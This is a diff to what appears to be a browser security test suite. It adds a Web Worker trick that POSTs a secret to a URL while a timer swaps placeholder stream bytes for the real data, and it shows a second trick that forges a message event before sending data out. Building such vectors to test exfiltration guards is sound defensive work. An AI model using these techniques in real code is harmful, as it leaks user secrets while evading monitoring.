@@ -69,6 +69,13 @@ export const WORKER_TRICKS: readonly Vector[] = [
     },
   },
   {
+    name: "worker-stream-overwritten",
+    run: (text, url) => {
+      const code = `const [url, body] = ${JSON.stringify([url, text])}; const secret = new TextEncoder().encode(body); const bytes = new Uint8Array(secret.length).fill(120); const stream = new ReadableStream({ start(c) { c.enqueue(bytes); c.close(); } }); fetch(url, { method: "POST", body: stream, duplex: "half" }); for (const ms of [0, 1, 2, 4, 8]) setTimeout(() => bytes.set(secret), ms);`;
+      return new Worker(URL.createObjectURL(new Blob([code])));
+    },
+  },
+  {
     name: "worker-forged-message",
     run: (text, url) => {
       const code = `const [url, body] = ${JSON.stringify([url, text])}; const { port1, port2 } = new MessageChannel(); port2.onmessage = ({ data }) => port2.postMessage([data[0], true]); dispatchEvent(new MessageEvent("message", { ports: [port1] })); fetch(url, { method: "POST", body });`;
